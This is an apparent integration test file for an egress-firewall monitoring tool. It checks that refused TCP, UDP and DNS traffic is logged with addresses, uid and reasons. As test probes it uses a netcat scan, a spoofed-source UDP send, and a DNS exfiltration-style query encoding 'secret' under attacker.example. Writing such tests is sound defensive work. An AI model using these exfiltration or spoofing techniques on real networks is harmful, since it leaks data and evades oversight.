//! `egress-fence watch`: refusals of the applied policy, read from its NFLOG group.

mod common;

use std::time::Duration;

use common::*;
use serde_json::Value;

const POLICY: &str = r#"
version: 1
allow:
  - cidr: 192.0.2.10/32
    ports: [443]
dns:
  resolvers: [192.0.2.53]
log:
  group: 100
"#;

fn events(out: &str) -> Vec<Value> {
    out.lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

#[test]
fn refused_tcp_and_udp_show_up_with_addresses_ports_and_uid() {
    let w = World::new();
    let policy = w.write_file("policy.yaml", POLICY);
    let applied = w.egress_fence(&["apply", policy.to_str().expect("utf-8")]);
    assert!(applied.success(), "{applied}");

    let mut watch = w.spawn_egress_fence(&["watch", "--json", "--count", "3"]);
    assert!(watch.wait_for_output("watching NFLOG group 100", Duration::from_secs(5)));

    assert!(!w.tcp_connects(OTHER_V4, 8443));
    assert!(!w.udp_send(OTHER2_V4, 5353, b"secret").success());
    // A refusal as another user carries that user's uid.
    let as_nobody = w.sandbox_cmd_as(NOBODY, &["nc", "-z", "-w", "1", "203.0.113.10", "9"]);
    assert!(!as_nobody.success(), "{as_nobody}");

    assert!(
        watch.wait_timeout(Duration::from_secs(5)).is_some(),
        "watch did not exit after 3 events"
    );
    let got = events(&watch.stdout());
    assert_eq!(got.len(), 3, "{}", watch.stdout());
    let find = |dst: &str, dport: u16| {
        got.iter()
            .find(|e| e["dst"] == dst && e["dport"] == dport)
            .unwrap_or_else(|| panic!("no event for {dst}:{dport} in {got:?}"))
            .clone()
    };
    let tcp = find("203.0.113.10", 8443);
    assert_eq!(tcp["protocol"], "tcp");
    assert_eq!(tcp["src"], "198.51.100.2");
    assert_eq!(tcp["uid"], 0);
    assert_eq!(tcp["prefix"], "EGRESS-DROP: ");
    assert_eq!(tcp["verdict"], "refused");
    assert_eq!(tcp["note"], "not in the policy");
    let udp = find("203.0.113.11", 5353);
    assert_eq!(udp["protocol"], "udp");
    assert_eq!(find("203.0.113.10", 9)["uid"], 65534);
}

#[test]
fn human_lines_name_the_destination() {
    let w = World::new();
    let policy = w.write_file("policy.yaml", POLICY);
    assert!(
        w.egress_fence(&["apply", policy.to_str().expect("utf-8")])
            .success()
    );
    let mut watch = w.spawn_egress_fence(&["watch"]);
    assert!(watch.wait_for_output("watching", Duration::from_secs(5)));
    assert!(!w.tcp_connects(HOST3_V6, 443));
    assert!(!w.tcp_connects(METADATA_V4, 80));
    assert!(!w.tcp_connects(HOST_V4, 8443));
    assert!(watch.wait_for_output("192.0.2.10:8443", Duration::from_secs(5)));
    let out = watch.stdout();
    let v6 = out
        .lines()
        .find(|l| l.contains("-> [2001:db8:1::12]:443"))
        .unwrap_or_else(|| panic!("no line for the IPv6 refusal: {out}"));
    assert!(v6.contains("REFUSED tcp [2001:db8:ffff::2]:"), "{out}");
    assert!(v6.ends_with("[not in the policy]"), "{out}");
    let metadata = out
        .lines()
        .find(|l| l.contains("169.254.169.254:80"))
        .expect("checked above");
    assert!(
        metadata.ends_with("[a cloud metadata service (preset cloud-metadata)]"),
        "{out}"
    );
    let other_port = out
        .lines()
        .find(|l| l.contains("192.0.2.10:8443"))
        .expect("checked above");
    assert!(
        other_port.ends_with("[allowed on other ports or protocols only]"),
        "{out}"
    );
}

/// Sends one UDP datagram from SRC, an address not the sandbox's, to DST port 443: over IPv6
/// with `IPV6_FREEBIND` (any user), over IPv4 with `IP_TRANSPARENT` (root). Prints the errno
/// of the refused send, or `sent`. Arguments: SRC DST.
const SEND_FROM_OUTSIDE: &str = r#"
import socket, sys
src, dst = sys.argv[1:3]
v6 = ':' in src
s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM)
if v6:
    s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
else:
    s.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
s.bind((src, 40001))
try:
    s.sendto(b'x', (dst, 443))
    print('sent')
except OSError as e:
    print(e.errno)
"#;

/// A packet written from an address that is not the host's is refused for its source before
/// any destination is judged: `watch` says so, for an allowed destination too, instead of
/// blaming the destination.
#[test]
fn a_packet_sent_from_an_address_not_the_hosts_is_said_to_be_refused_for_its_source() {
    let w = World::new();
    w.apply_policy(POLICY);
    let mut watch = w.spawn_egress_fence(&["watch", "--json", "--count", "2"]);
    assert!(watch.wait_for_output("watching NFLOG group 100", Duration::from_secs(5)));

    let eperm = "1";
    let v4 = w.sandbox_cmd(&[
        PYTHON,
        "-c",
        SEND_FROM_OUTSIDE,
        "203.0.113.11",
        "192.0.2.10",
    ]);
    assert_eq!(v4.stdout.trim(), eperm, "{v4}");
    let v6 = w.sandbox_cmd_as(
        NOBODY,
        &[
            PYTHON,
            "-c",
            SEND_FROM_OUTSIDE,
            "2001:db8:2::10",
            "2001:db8:1::12",
        ],
    );
    assert_eq!(v6.stdout.trim(), eperm, "{v6}");

    assert!(
        watch.wait_timeout(Duration::from_secs(5)).is_some(),
        "watch did not exit after 2 events"
    );
    let got = events(&watch.stdout());
    for (src, uid) in [("203.0.113.11", 0), ("2001:db8:2::10", NOBODY)] {
        let event = got
            .iter()
            .find(|e| e["src"] == src)
            .unwrap_or_else(|| panic!("no event from {src} in {got:?}"));
        assert_eq!(event["uid"], uid, "{event}");
        assert_eq!(
            event["note"],
            format!(
                "sent from {src}, which is not this host's address: a source a process \
                 chose, refused whatever the destination"
            ),
            "{event}"
        );
    }
}

#[test]
fn watch_needs_an_installed_table_with_a_group() {
    let w = World::new();
    let out = w.egress_fence(&["watch"]);
    assert_eq!(out.code(), 1, "{out}");
    assert!(out.stderr.contains("not installed"), "{out}");

    let no_group = w.write_file(
        "nogroup.yaml",
        "version: 1\ndns:\n  resolvers: [192.0.2.53]\n",
    );
    assert!(
        w.egress_fence(&["apply", no_group.to_str().expect("utf-8")])
            .success()
    );
    let out = w.egress_fence(&["watch"]);
    assert_eq!(out.code(), 1, "{out}");
    assert!(out.stderr.contains("log.group"), "{out}");
}

// ---- refused DNS queries (dns.mode: guard) ----------------------------------------------------

const GUARD_POLICY: &str = r#"
version: 1
allow:
  - domain: api.example.com
    ports: [443]
dns:
  mode: guard
  listen: [127.0.0.53:53]
  upstream: [192.0.2.53]
log:
  group: 100
"#;

/// `dig @127.0.0.53 NAME TYPE` from the sandbox: the guard's answer code.
fn ask_guard(w: &World, name: &str, rtype: &str) -> String {
    let out = w.sandbox_cmd(&[
        "dig",
        "+tries=1",
        "+time=2",
        "+noall",
        "+comments",
        "@127.0.0.53",
        name,
        rtype,
    ]);
    out.stdout
        .split("status: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .unwrap_or_else(|| panic!("no status in dig's answer: {out}"))
        .to_string()
}

/// A name the guard refuses shows up in `watch --json` with the name, its type, who asked
/// and the answer, and counts towards --count.
#[test]
fn a_query_the_guard_refused_shows_up_with_its_name() {
    let w = World::new();
    let policy = w.write_file("guard.yaml", GUARD_POLICY);
    let _daemon = w.spawn_guard(policy.to_str().expect("utf-8"));

    let mut watch = w.spawn_egress_fence(&["watch", "--json", "--count", "1"]);
    assert!(
        watch.wait_for_output("watching the DNS guard", Duration::from_secs(5)),
        "watch did not connect to the guard: {}",
        watch.stderr()
    );
    assert_eq!(ask_guard(&w, "c2VjcmV0.attacker.example", "TXT"), "REFUSED");
    assert!(
        watch.wait_timeout(Duration::from_secs(5)).is_some(),
        "watch did not exit after 1 event: {}",
        watch.stderr()
    );
    let got = events(&watch.stdout());
    assert_eq!(got.len(), 1, "{}", watch.stdout());
    let q = &got[0];
    assert_eq!(q["protocol"], "dns", "{q}");
    assert_eq!(q["verdict"], "refused", "{q}");
    // As asked, case preserved (what an exfiltrating agent encodes may need it).
    assert_eq!(q["name"], "c2VjcmV0.attacker.example", "{q}");
    assert_eq!(q["qtype"], "TXT", "{q}");
    assert_eq!(q["answer"], "REFUSED", "{q}");
    assert_eq!(q["transport"], "udp", "{q}");
    assert!(
        q["client"]
            .as_str()
            .is_some_and(|c| c.starts_with("127.0.0.1:")),
        "{q}"
    );
}

/// A refused name with bytes a terminal must not get is shown in RFC 1035 presentation form:
/// decimal `\DDD` escapes, an escaped dot inside a label, case preserved (dig reads it back
/// as the same name).
#[test]
fn refused_names_are_shown_in_rfc_1035_presentation_form() {
    let w = World::new();
    let policy = w.write_file("guard.yaml", GUARD_POLICY);
    let _daemon = w.spawn_guard(policy.to_str().expect("utf-8"));

    let mut watch = w.spawn_egress_fence(&["watch", "--count", "1"]);
    assert!(
        watch.wait_for_output("watching the DNS guard", Duration::from_secs(5)),
        "watch did not connect to the guard: {}",
        watch.stderr()
    );
    let asked = r"Ex\128\.ample\032x\027.attacker.example";
    assert_eq!(ask_guard(&w, asked, "A"), "REFUSED");
    assert!(
        watch.wait_timeout(Duration::from_secs(5)).is_some(),
        "watch did not exit after 1 event: {}",
        watch.stderr()
    );
    let out = watch.stdout();
    assert!(
        out.contains(&format!("REFUSED dns query {asked} A from")),
        "{out}"
    );
}

/// watch started before the guard waits for it quietly, prints refused queries and refused
/// packets side by side as whole lines, and reconnects when the guard restarts.
#[test]
fn watch_follows_the_guard_across_restarts_beside_refused_packets() {
    let w = World::new();
    let policy = w.write_file("guard.yaml", GUARD_POLICY);
    let policy = policy.to_str().expect("utf-8");

    // No service yet, so no table either: the group is given.
    let mut watch = w.spawn_egress_fence(&["watch", "--group", "100", "--count", "3"]);
    assert!(watch.wait_for_output("watching NFLOG group 100", Duration::from_secs(5)));
    let mut daemon = w.spawn_guard(policy);
    assert!(
        watch.wait_for_output("watching the DNS guard", Duration::from_secs(5)),
        "watch did not find the guard: {}",
        watch.stderr()
    );
    assert_eq!(ask_guard(&w, "first.attacker.example", "A"), "REFUSED");
    assert!(watch.wait_for_output("first.attacker.example", Duration::from_secs(5)));
    assert!(!w.tcp_connects(OTHER_V4, 8443));
    assert!(watch.wait_for_output("203.0.113.10:8443", Duration::from_secs(5)));

    // The guard restarts: watch says so on stderr, comes back by itself, and goes on.
    assert!(daemon.terminate().success(), "{}", daemon.stderr());
    assert!(
        watch.wait_for_output("went away", Duration::from_secs(5)),
        "{}",
        watch.stderr()
    );
    let _daemon = w.spawn_guard(policy);
    assert!(
        within(Duration::from_secs(5), || watch
            .stderr()
            .matches("watching the DNS guard")
            .count()
            >= 2),
        "watch did not reconnect: {}",
        watch.stderr()
    );
    assert_eq!(ask_guard(&w, "second.attacker.example", "AAAA"), "REFUSED");
    assert!(
        watch.wait_timeout(Duration::from_secs(5)).is_some(),
        "watch did not exit after 3 events: {}",
        watch.stderr()
    );

    let out = watch.stdout();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 3, "{out}");
    assert!(
        lines[0].contains("REFUSED dns query first.attacker.example A from 127.0.0.1:"),
        "{out}"
    );
    assert!(
        lines[0].ends_with("(udp), answered REFUSED [not in the policy]"),
        "{out}"
    );
    assert!(
        lines[1].contains("REFUSED tcp 198.51.100.2:") && lines[1].contains("203.0.113.10:8443"),
        "{out}"
    );
    assert!(
        lines[2].contains("REFUSED dns query second.attacker.example AAAA from 127.0.0.1:"),
        "{out}"
    );
}

// ---- scope ----------------------------------------------------------------------------------

/// A scope of one user; the table is loaded from the plan text with `nft -f` (the plan is
/// exact nft), as `apply` would install it.
const SCOPED_POLICY: &str = r#"
version: 1
scope:
  users: [nobody]
allow:
  - cidr: 192.0.2.10/32
    ports: [443]
dns:
  resolvers: [192.0.2.53]
log:
  group: 100
"#;

/// A refusal of a scoped user names the scope it matched; root, outside the scope, is not
/// refused at all.
#[test]
fn a_scoped_refusal_names_the_user_it_matched() {
    let w = World::new();
    let policy = w.write_file("scoped.yaml", SCOPED_POLICY);
    let plan = w.egress_fence(&["plan", policy.to_str().expect("utf-8")]);
    assert!(plan.success(), "{plan}");
    let loaded = w.sandbox_cmd_with_input(&["nft", "-f", "-"], plan.stdout.as_bytes());
    assert!(loaded.success(), "{loaded}");

    let mut watch = w.spawn_egress_fence(&["watch", "--json", "--count", "1"]);
    assert!(watch.wait_for_output("watching NFLOG group 100", Duration::from_secs(5)));
    let as_nobody = w.sandbox_cmd_as(NOBODY, &["nc", "-z", "-w", "1", "203.0.113.10", "9"]);
    assert!(!as_nobody.success(), "{as_nobody}");
    assert!(
        watch.wait_timeout(Duration::from_secs(5)).is_some(),
        "watch did not exit after 1 event"
    );
    let got = events(&watch.stdout());
    assert_eq!(got.len(), 1, "{}", watch.stdout());
    assert_eq!(got[0]["uid"], 65534);
    assert_eq!(
        got[0]["scope"],
        serde_json::json!({"uid": 65534, "name": "nobody"}),
        "{got:?}"
    );
}
